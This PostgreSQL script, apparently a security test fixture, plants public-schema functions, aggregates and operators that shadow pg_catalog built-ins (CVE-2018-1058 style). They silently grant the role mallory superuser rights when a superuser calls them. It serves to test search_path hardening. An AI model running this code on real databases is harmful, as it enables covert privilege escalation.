-- Run by mallory: a CVE-2018-1058-style trap.  Functions, aggregates and
-- operators planted in public shadow the pg_catalog ones okr's SQL calls
-- (exact argument types win over pg_catalog's polymorphic or variadic ones
-- once public comes first in search_path).  Each answers correctly, so that
-- only the warning tells it ran, and, when it runs as a superuser, makes
-- mallory one.
CREATE FUNCTION public.planted(what text) RETURNS void LANGUAGE plpgsql AS $$
BEGIN
    RAISE WARNING 'PLANTED % called as %', what, current_user;
    IF (SELECT r.rolsuper FROM pg_catalog.pg_roles r WHERE r.rolname OPERATOR(pg_catalog.=) current_user) THEN
        EXECUTE 'ALTER ROLE mallory SUPERUSER';
    END IF;
EXCEPTION WHEN OTHERS THEN
    NULL;
END $$;

CREATE FUNCTION public.now() RETURNS timestamptz LANGUAGE plpgsql AS
$$ BEGIN PERFORM public.planted('now()'); RETURN pg_catalog.now(); END $$;
CREATE FUNCTION public.abs(double precision) RETURNS double precision LANGUAGE plpgsql AS
$$ BEGIN PERFORM public.planted('abs'); RETURN pg_catalog.abs($1); END $$;
CREATE FUNCTION public.lpad(text, integer, text) RETURNS text LANGUAGE plpgsql AS
$$ BEGIN PERFORM public.planted('lpad'); RETURN pg_catalog.lpad($1, $2, $3); END $$;
CREATE FUNCTION public.format(text, bigint, text) RETURNS text LANGUAGE plpgsql AS
$$ BEGIN PERFORM public.planted('format'); RETURN pg_catalog.format($1, $2, $3); END $$;
CREATE FUNCTION public.format(text, text, bigint, text, text) RETURNS text LANGUAGE plpgsql AS
$$ BEGIN PERFORM public.planted('format'); RETURN pg_catalog.format($1, $2, $3, $4, $5); END $$;
CREATE FUNCTION public.date_part(text, timestamptz) RETURNS double precision LANGUAGE plpgsql AS
$$ BEGIN PERFORM public.planted('date_part'); RETURN pg_catalog.date_part($1, $2); END $$;
CREATE FUNCTION public.to_char(timestamptz, text) RETURNS text LANGUAGE plpgsql AS
$$ BEGIN PERFORM public.planted('to_char'); RETURN pg_catalog.to_char($1, $2); END $$;
CREATE FUNCTION public.lower(text) RETURNS text LANGUAGE plpgsql AS
$$ BEGIN PERFORM public.planted('lower'); RETURN pg_catalog.lower($1); END $$;
CREATE FUNCTION public.octet_length(text) RETURNS integer LANGUAGE plpgsql AS
$$ BEGIN PERFORM public.planted('octet_length'); RETURN pg_catalog.octet_length($1); END $$;
CREATE FUNCTION public.hashtext(text) RETURNS integer LANGUAGE plpgsql AS
$$ BEGIN PERFORM public.planted('hashtext'); RETURN pg_catalog.hashtext($1); END $$;
CREATE FUNCTION public.current_setting(text) RETURNS text LANGUAGE plpgsql AS
$$ BEGIN PERFORM public.planted('current_setting'); RETURN pg_catalog.current_setting($1); END $$;
CREATE FUNCTION public.round(numeric, integer) RETURNS numeric LANGUAGE plpgsql AS
$$ BEGIN PERFORM public.planted('round'); RETURN pg_catalog.round($1, $2); END $$;
CREATE FUNCTION public.jsonb_typeof(jsonb) RETURNS text LANGUAGE plpgsql AS
$$ BEGIN PERFORM public.planted('jsonb_typeof'); RETURN pg_catalog.jsonb_typeof($1); END $$;
CREATE FUNCTION public.unnest(text[]) RETURNS SETOF text LANGUAGE plpgsql AS
$$ BEGIN PERFORM public.planted('unnest(text[])'); RETURN QUERY SELECT pg_catalog.unnest($1); END $$;
CREATE FUNCTION public.unnest(bigint[]) RETURNS SETOF bigint LANGUAGE plpgsql AS
$$ BEGIN PERFORM public.planted('unnest(bigint[])'); RETURN QUERY SELECT pg_catalog.unnest($1); END $$;
CREATE FUNCTION public.generate_series(timestamptz, timestamptz, interval) RETURNS SETOF timestamptz LANGUAGE plpgsql AS
$$ BEGIN PERFORM public.planted('generate_series'); RETURN QUERY SELECT pg_catalog.generate_series($1, $2, $3); END $$;

-- aggregates
CREATE FUNCTION public.sum_p(double precision, double precision) RETURNS double precision LANGUAGE plpgsql AS
$$ BEGIN PERFORM public.planted('sum(float8)'); RETURN coalesce($1, 0) OPERATOR(pg_catalog.+) $2; END $$;
CREATE AGGREGATE public.sum(double precision) (SFUNC = public.sum_p, STYPE = double precision);
CREATE FUNCTION public.max_p(timestamptz, timestamptz) RETURNS timestamptz LANGUAGE plpgsql AS
$$ BEGIN PERFORM public.planted('max(timestamptz)'); RETURN pg_catalog.greatest($1, $2); END $$;
CREATE AGGREGATE public.max(timestamptz) (SFUNC = public.max_p, STYPE = timestamptz);
CREATE FUNCTION public.agg_p(bigint[], bigint) RETURNS bigint[] LANGUAGE plpgsql AS
$$ BEGIN PERFORM public.planted('array_agg(bigint)'); RETURN pg_catalog.array_append($1, $2); END $$;
CREATE AGGREGATE public.array_agg(bigint) (SFUNC = public.agg_p, STYPE = bigint[]);
CREATE FUNCTION public.sagg_p(text, text, text) RETURNS text LANGUAGE plpgsql AS
$$ BEGIN PERFORM public.planted('string_agg'); RETURN CASE WHEN $1 IS NULL THEN $2 ELSE pg_catalog.concat($1, $3, $2) END; END $$;
CREATE AGGREGATE public.string_agg(text, text) (SFUNC = public.sagg_p, STYPE = text);

-- operators
CREATE FUNCTION public.op_text_eq(text, text) RETURNS boolean LANGUAGE plpgsql AS
$$ BEGIN PERFORM public.planted('= (text)'); RETURN $1 OPERATOR(pg_catalog.=) $2; END $$;
CREATE OPERATOR public.= (LEFTARG = text, RIGHTARG = text, FUNCTION = public.op_text_eq);
CREATE FUNCTION public.op_text_ne(text, text) RETURNS boolean LANGUAGE plpgsql AS
$$ BEGIN PERFORM public.planted('<> (text)'); RETURN $1 OPERATOR(pg_catalog.<>) $2; END $$;
CREATE OPERATOR public.<> (LEFTARG = text, RIGHTARG = text, FUNCTION = public.op_text_ne);
CREATE FUNCTION public.op_int8_eq(bigint, bigint) RETURNS boolean LANGUAGE plpgsql AS
$$ BEGIN PERFORM public.planted('= (bigint)'); RETURN $1 OPERATOR(pg_catalog.=) $2; END $$;
CREATE OPERATOR public.= (LEFTARG = bigint, RIGHTARG = bigint, FUNCTION = public.op_int8_eq);
CREATE FUNCTION public.op_ts_lt(timestamptz, timestamptz) RETURNS boolean LANGUAGE plpgsql AS
$$ BEGIN PERFORM public.planted('< (timestamptz)'); RETURN $1 OPERATOR(pg_catalog.<) $2; END $$;
CREATE OPERATOR public.< (LEFTARG = timestamptz, RIGHTARG = timestamptz, FUNCTION = public.op_ts_lt);
CREATE FUNCTION public.op_ts_le(timestamptz, timestamptz) RETURNS boolean LANGUAGE plpgsql AS
$$ BEGIN PERFORM public.planted('<= (timestamptz)'); RETURN $1 OPERATOR(pg_catalog.<=) $2; END $$;
CREATE OPERATOR public.<= (LEFTARG = timestamptz, RIGHTARG = timestamptz, FUNCTION = public.op_ts_le);
CREATE FUNCTION public.op_ts_gt(timestamptz, timestamptz) RETURNS boolean LANGUAGE plpgsql AS
$$ BEGIN PERFORM public.planted('> (timestamptz)'); RETURN $1 OPERATOR(pg_catalog.>) $2; END $$;
CREATE OPERATOR public.> (LEFTARG = timestamptz, RIGHTARG = timestamptz, FUNCTION = public.op_ts_gt);
CREATE FUNCTION public.op_f8_gt(double precision, double precision) RETURNS boolean LANGUAGE plpgsql AS
$$ BEGIN PERFORM public.planted('> (float8)'); RETURN $1 OPERATOR(pg_catalog.>) $2; END $$;
CREATE OPERATOR public.> (LEFTARG = double precision, RIGHTARG = double precision, FUNCTION = public.op_f8_gt);
CREATE FUNCTION public.op_f8_ge(double precision, double precision) RETURNS boolean LANGUAGE plpgsql AS
$$ BEGIN PERFORM public.planted('>= (float8)'); RETURN $1 OPERATOR(pg_catalog.>=) $2; END $$;
CREATE OPERATOR public.>= (LEFTARG = double precision, RIGHTARG = double precision, FUNCTION = public.op_f8_ge);
CREATE FUNCTION public.op_text_cat(text, text) RETURNS text LANGUAGE plpgsql AS
$$ BEGIN PERFORM public.planted('|| (text)'); RETURN $1 OPERATOR(pg_catalog.||) $2; END $$;
CREATE OPERATOR public.|| (LEFTARG = text, RIGHTARG = text, FUNCTION = public.op_text_cat);
CREATE FUNCTION public.op_ts_mi(timestamptz, interval) RETURNS timestamptz LANGUAGE plpgsql AS
$$ BEGIN PERFORM public.planted('- (timestamptz, interval)'); RETURN $1 OPERATOR(pg_catalog.-) $2; END $$;
CREATE OPERATOR public.- (LEFTARG = timestamptz, RIGHTARG = interval, FUNCTION = public.op_ts_mi);
CREATE FUNCTION public.op_ts_pl(timestamptz, interval) RETURNS timestamptz LANGUAGE plpgsql AS
$$ BEGIN PERFORM public.planted('+ (timestamptz, interval)'); RETURN $1 OPERATOR(pg_catalog.+) $2; END $$;
CREATE OPERATOR public.+ (LEFTARG = timestamptz, RIGHTARG = interval, FUNCTION = public.op_ts_pl);
GRANT EXECUTE ON ALL FUNCTIONS IN SCHEMA public TO PUBLIC;
